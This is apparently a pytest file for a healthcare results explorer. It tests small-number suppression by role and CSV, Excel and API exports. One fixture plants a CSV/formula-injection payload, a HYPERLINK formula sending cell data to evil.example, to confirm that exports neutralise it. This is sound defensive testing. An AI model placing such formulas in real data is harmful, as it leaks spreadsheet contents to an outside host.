"""The results explorer: published aggregates for every member, small cells blank for others."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from commontable.members import Role
from tests.app_fixtures import AppDatabase
from tests.published_results import cell, publish_cells
from tests.web.conftest import Region, bearer, signed_in

QUERY = "measure=CMS125&period=2025&entity_type=health_plan&stratum_type=all"


@pytest.fixture
def published(db: Session, region: Region) -> None:
    """CMS125 2025: Cascade's plan result is a small cell; Riverside's is its complement."""
    publish_cells(
        db,
        [
            cell("collaborative", None, 400, 200, entity_type="collaborative"),
            cell("cascade", region.own.id, 9, 7, suppression="primary"),
            cell("riverside", region.other.id, 20, 3, suppression="complementary"),
            cell("lakeshore", None, 371, 190),
        ],
    )
    db.commit()


def page(client: TestClient, query: str = QUERY) -> str:
    answer = client.get(f"/results?{query}")
    assert answer.status_code == 200
    return answer.text


@pytest.mark.usefixtures("published")
def test_the_page_shows_each_result_and_a_chart(
    client: TestClient, app_db: AppDatabase, region: Region
) -> None:
    signed_in(client, app_db, region.people[Role.VIEWER])
    text = page(client)
    assert "Lakeshore" in text
    assert "51.2%" in text
    assert "<svg" in text


@pytest.mark.usefixtures("published")
def test_another_organizations_small_cell_is_blank(
    client: TestClient, app_db: AppDatabase, region: Region
) -> None:
    signed_in(client, app_db, region.people[Role.VIEWER])
    text = page(client)
    assert "15.0%" not in text  # Riverside's 3 of 20
    assert "Suppressed to protect small numbers" in text


@pytest.mark.usefixtures("published")
def test_an_organization_sees_its_own_small_cell(
    client: TestClient, app_db: AppDatabase, region: Region
) -> None:
    signed_in(client, app_db, region.people[Role.VIEWER])
    text = page(client)
    assert "77.8%" in text  # Cascade's own 7 of 9
    assert "shown to you" in text


@pytest.mark.usefixtures("published")
def test_staff_without_the_data_steward_role_see_small_cells_blank(
    client: TestClient, app_db: AppDatabase, region: Region
) -> None:
    signed_in(client, app_db, region.people[Role.STAFF])
    assert "15.0%" not in page(client)


@pytest.mark.usefixtures("published")
def test_data_stewards_see_every_small_cell(
    client: TestClient, app_db: AppDatabase, region: Region
) -> None:
    signed_in(client, app_db, region.steward)
    text = page(client)
    assert "15.0%" in text
    assert "77.8%" in text


@pytest.mark.usefixtures("published")
def test_the_csv_download_leaves_suppressed_figures_blank(
    client: TestClient, app_db: AppDatabase, region: Region
) -> None:
    signed_in(client, app_db, region.people[Role.VIEWER])
    answer = client.get(f"/results/download.csv?{QUERY}")
    assert answer.headers["content-type"].startswith("text/csv")
    rows = {r["entity_id"]: r for r in csv.DictReader(io.StringIO(answer.text))}
    assert rows["riverside"]["numerator"] == ""
    assert rows["riverside"]["status"] == "suppressed"
    assert rows["lakeshore"]["numerator"] == "190"


@pytest.mark.usefixtures("published")
def test_the_excel_download_holds_the_same_rows(
    client: TestClient, app_db: AppDatabase, region: Region
) -> None:
    signed_in(client, app_db, region.people[Role.VIEWER])
    answer = client.get(f"/results/download.xlsx?{QUERY}")
    sheet = load_workbook(io.BytesIO(answer.content))["results"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:4] == ("measure_id", "period", "entity_type", "entity_id")
    assert len(rows) == 1 + 3


@pytest.mark.usefixtures("published")
def test_the_api_gives_null_figures_for_suppressed_cells(
    client: TestClient, region: Region
) -> None:
    answer = client.get(f"/api/results?{QUERY}", headers=bearer(region.own_token))
    results = {r["entity_id"]: r for r in answer.json()["results"]}
    assert results["riverside"]["rate"] is None
    assert results["riverside"]["why_blank"] == "Suppressed to protect small numbers"
    assert results["cascade"]["numerator"] == 7  # the token's own organization


@pytest.mark.usefixtures("published")
def test_the_catalog_lists_periods_and_measures(client: TestClient, region: Region) -> None:
    answer = client.get("/api/results/catalog", headers=bearer(region.own_token)).json()
    assert answer["periods"] == [2025]
    assert [m["measure_id"] for m in answer["measures"]] == ["CMS125"]


@pytest.mark.usefixtures("published")
def test_an_unknown_measure_is_not_found(client: TestClient, region: Region) -> None:
    answer = client.get("/api/results?measure=NOPE", headers=bearer(region.own_token))
    assert answer.status_code == 404


def test_before_anything_is_published_the_page_says_how(
    client: TestClient, app_db: AppDatabase, region: Region
) -> None:
    signed_in(client, app_db, region.people[Role.VIEWER])
    assert "commontable publish --period" in page(client, "")


@pytest.mark.usefixtures("published")
def test_an_organizations_scorecard_shows_its_own_results(
    client: TestClient, app_db: AppDatabase, region: Region
) -> None:
    signed_in(client, app_db, region.people[Role.VIEWER])
    text = client.get(f"/organizations/{region.own.id}/scorecard").text
    assert "Breast Cancer Screening" in text
    assert "77.8%" in text


@pytest.mark.usefixtures("published")
def test_another_organizations_scorecard_keeps_its_small_cells_blank(
    client: TestClient, app_db: AppDatabase, region: Region
) -> None:
    signed_in(client, app_db, region.people[Role.VIEWER])
    text = client.get(f"/organizations/{region.other.id}/scorecard").text
    assert "15.0%" not in text
    assert "suppressed" in text


@pytest.mark.usefixtures("published")
def test_the_organization_page_loads_its_scorecard(
    client: TestClient, app_db: AppDatabase, region: Region
) -> None:
    signed_in(client, app_db, region.people[Role.VIEWER])
    text = client.get(f"/organizations/{region.own.id}").text
    assert f'hx-get="/organizations/{region.own.id}/scorecard"' in text


@pytest.mark.usefixtures("published")
def test_the_home_page_shows_the_collaboratives_latest_results(
    client: TestClient, app_db: AppDatabase, region: Region
) -> None:
    signed_in(client, app_db, region.people[Role.VIEWER])
    text = client.get("/").text
    assert "How the collaborative is doing, 2025" in text
    assert "50.0%" in text  # the collaborative's 200 of 400


FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Click")'


@pytest.fixture
def formula_name(db: Session, region: Region) -> None:
    """A payer whose name, as sent in eligibility, is a spreadsheet formula."""
    planted = cell("lakeshore", None, 371, 190)
    planted["entity_name"] = FORMULA
    publish_cells(db, [cell("collaborative", None, 400, 200, entity_type="collaborative"), planted])
    db.commit()


@pytest.mark.usefixtures("formula_name")
def test_a_formula_sent_as_a_name_is_quoted_in_the_csv_download(
    client: TestClient, app_db: AppDatabase, region: Region
) -> None:
    signed_in(client, app_db, region.people[Role.VIEWER])
    text = client.get(f"/results/download.csv?{QUERY}").text
    names = [r["entity_name"] for r in csv.DictReader(io.StringIO(text))]
    assert "'" + FORMULA in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)


@pytest.mark.usefixtures("formula_name")
def test_a_formula_sent_as_a_name_is_text_in_the_excel_download(
    client: TestClient, app_db: AppDatabase, region: Region
) -> None:
    signed_in(client, app_db, region.people[Role.VIEWER])
    answer = client.get(f"/results/download.xlsx?{QUERY}")
    sheet = load_workbook(io.BytesIO(answer.content))["results"]
    column = [c.value for c in sheet[1]].index("entity_name") + 1
    cells = [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]
    planted = next(c for c in cells if c.value == FORMULA)
    assert planted.data_type == "s"
    assert planted.quotePrefix
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
